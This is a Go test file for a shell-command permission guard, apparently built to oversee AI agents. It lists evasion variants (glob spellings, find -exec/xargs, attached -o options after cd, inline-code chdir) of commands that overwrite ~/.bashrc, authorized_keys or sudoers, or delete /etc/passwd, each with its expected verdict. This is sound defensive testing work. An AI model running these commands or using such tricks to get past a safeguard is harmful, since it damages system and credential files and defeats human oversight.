package rules_test

import (
	"testing"

	"github.com/hguard/hguard/dsl"
)

// TestGlobWrites48: a write target spelled as a glob that may name a
// protected file is read as the delete rules read theirs (mayName), in
// the one outputs view: bash and zsh expand it to the file when it is
// there (session 48, 2026-12-05: each glob line was allowed).
func TestGlobWrites48(t *testing.T) {
	checkHoles(t, []holeCase{
		{"cp /tmp/x ~/.[!.]ashrc", dsl.Ask, dsl.Ask},
		{"cp /tmp/x ~/.bash[r]c", dsl.Ask, dsl.Ask},
		{"cp /tmp/x ~/.?ashrc", dsl.Ask, dsl.Ask},
		{"cp /tmp/x ~/.bashrc", dsl.Ask, dsl.Ask},
		{"echo x > ~/.[!.]ashrc", dsl.Ask, dsl.Ask},
		{"echo x >> ~/.z[s]hrc", dsl.Ask, dsl.Ask},
		{"tee ~/.bash[r]c < /tmp/x", dsl.Ask, dsl.Ask},
		{"cd ~ && cp /tmp/x .[!.]ashrc", dsl.Ask, dsl.Ask},
		{"cp /tmp/k ~/.s?h/authorized_keys", dsl.Ask, dsl.Ask},
		{"cp /tmp/x /etc/pass[w]d", dsl.Ask, dsl.Ask},
		{"cp /tmp/x /e?c/passwd", dsl.Ask, dsl.Ask},
		{"echo x >> /etc/sudoers.[d]/x", dsl.Block, dsl.Block},
		{"sort -o /etc/cron.?/x /tmp/x", dsl.Ask, dsl.Ask},
		// quoted, the glob is the file's own name
		{"cp /tmp/x '.bash[r]c'", dsl.Allow, dsl.Allow},
		// everyday neighbours
		{"cp *.txt backup/", dsl.Allow, dsl.Allow},
		{"echo x > out-[0-9].log", dsl.Allow, dsl.Allow},
		{"cp ~/Downloads/*.pdf ~/Documents/", dsl.Allow, dsl.Allow},
		{"tee build/*.log < /dev/null", dsl.Allow, dsl.Allow},
		{"cp notes-[0-9].md ~/Documents/", dsl.Allow, dsl.Allow},
		{"echo done > ~/Documents/report-?.txt", dsl.Allow, dsl.Allow},
	})
}

// TestFoundInPlace48: a program that changes in place what it is given,
// run by find -exec on {} or by xargs on find's output, changes what find
// finds: the find's points and -name patterns stand for {} (session 48:
// each was allowed while gzip ~/.bashrc was asked).
func TestFoundInPlace48(t *testing.T) {
	checkHoles(t, []holeCase{
		{`find ~ -name .bashrc -exec gzip {} \;`, dsl.Ask, dsl.Ask},
		{`find ~/.bashrc -execdir gzip {} +`, dsl.Ask, dsl.Ask},
		{`find /etc -name passwd -exec gzip {} \;`, dsl.Block, dsl.Block},
		{`cd ~ && find . -name .bashrc -exec gzip {} \;`, dsl.Ask, dsl.Ask},
		{`find ~ -name .bashrc | xargs gzip`, dsl.Ask, dsl.Ask},
		{`find /etc -name passwd | xargs gzip`, dsl.Block, dsl.Block},
		{`find ~ -name '.b*' -exec xz {} +`, dsl.Ask, dsl.Ask},
		{`find ~ -name .bashrc -exec mv {} /tmp/ \;`, dsl.Ask, dsl.Ask},
		{`find ~ -name .bashrc | xargs -I{} mv {} /tmp/`, dsl.Ask, dsl.Ask},
		{`find ~ -maxdepth 1 -name .zshrc -exec sed -i 's/a/b/' {} +`, dsl.Ask, dsl.Ask},
		{`find ~/.ssh -name authorized_keys -exec tee -a {} \; < /tmp/k`, dsl.Ask, dsl.Ask},
		{"gzip ~/.bashrc", dsl.Ask, dsl.Ask},
		// everyday neighbours
		{`find . -name '*.log' -exec gzip {} \;`, dsl.Allow, dsl.Allow},
		{`find . -type f | xargs gzip -k`, dsl.Allow, dsl.Allow},
		{`find . -name '*.go' -exec sed -i 's/a/b/' {} +`, dsl.Allow, dsl.Allow},
		{`find src -name '*.js' | xargs sed -i 's/var /let /'`, dsl.Allow, dsl.Allow},
		{`find . -name '*.sh' -exec chmod +x {} \;`, dsl.Allow, dsl.Allow},
		{`find . -type d -exec chmod 755 {} +`, dsl.Allow, dsl.Allow},
		{`find ~/Downloads -name '*.tar' -exec gzip {} \;`, dsl.Allow, dsl.Ask}, // as gzip ~/Downloads/*.tar: outside an agent's project
		{`find . -name '*.bak' -exec mv {} old/ \;`, dsl.Allow, dsl.Allow},
	})
}

// TestAttachedAfterCd48: after a cd, the value attached to a short output
// option (-oFILE) is where the cd moved, as the separated one is
// (session 48: each attached line was allowed).
func TestAttachedAfterCd48(t *testing.T) {
	checkHoles(t, []holeCase{
		{"cd ~ && zzprog -o.bashrc", dsl.Ask, dsl.Ask},
		{"cd ~ && zzprog -o .bashrc", dsl.Ask, dsl.Ask},
		{"cd ~ && sort -o.bashrc /tmp/x", dsl.Ask, dsl.Ask},
		{"cd /etc && sort -opasswd /tmp/x", dsl.Ask, dsl.Ask},
		{"cd ~ && sort --output=.bashrc /tmp/x", dsl.Ask, dsl.Ask},
		{"cd ~ && zzprog --output=.bashrc", dsl.Ask, dsl.Ask},
		{"cd ~ && curl -so.bashrc https://x.example/a", dsl.Ask, dsl.Ask},
		// everyday neighbours
		{"cd build && gcc -O2 -omain main.c", dsl.Allow, dsl.Allow},
		{"cd /tmp && sort -osorted.txt data.txt", dsl.Allow, dsl.Allow},
		{"cd ~ && ssh -oBatchMode=yes host true", dsl.Allow, dsl.Allow},
	})
}

// TestCodeChdir48: inline code's own chdir moves its later calls as a cd
// on the line does; a directory known only at run time leaves their
// relative names unknown (session 48: each chdir line was allowed).
func TestCodeChdir48(t *testing.T) {
	checkHoles(t, []holeCase{
		{`python3 -c "import os; os.chdir('/etc'); os.remove('passwd')"`, dsl.Block, dsl.Block},
		{`python3 -c "import os; os.remove('/etc/passwd')"`, dsl.Block, dsl.Block},
		{`python3 -c "import os; os.chdir(os.path.expanduser('~')); open('.bashrc','a')"`, dsl.Ask, dsl.Block},
		{`python3 -c "import os; open(os.path.expanduser('~/.bashrc'),'a')"`, dsl.Ask, dsl.Block},
		{`node -e "process.chdir('/etc'); require('fs').unlinkSync('passwd')"`, dsl.Block, dsl.Block},
		{`ruby -e "Dir.chdir('/etc'); File.delete('passwd')"`, dsl.Block, dsl.Block},
		{`perl -e "chdir '/etc'; unlink 'passwd'"`, dsl.Block, dsl.Block},
		{`php -r "chdir('/etc'); unlink('passwd');"`, dsl.Block, dsl.Block},
		{`cd /etc && python3 -c "import os; os.chdir('ssh'); os.remove('sshd_config')"`, dsl.Ask, dsl.Ask},
		// everyday neighbours
		{`python3 -c "import os; os.chdir('build'); os.remove('x.o')"`, dsl.Allow, dsl.Allow},
		{`python3 -c "import os; os.remove('x.o'); os.chdir('/etc')"`, dsl.Allow, dsl.Allow},
		{`node -e "process.chdir('dist'); require('fs').writeFileSync('index.html', '')"`, dsl.Allow, dsl.Allow},
	})
}
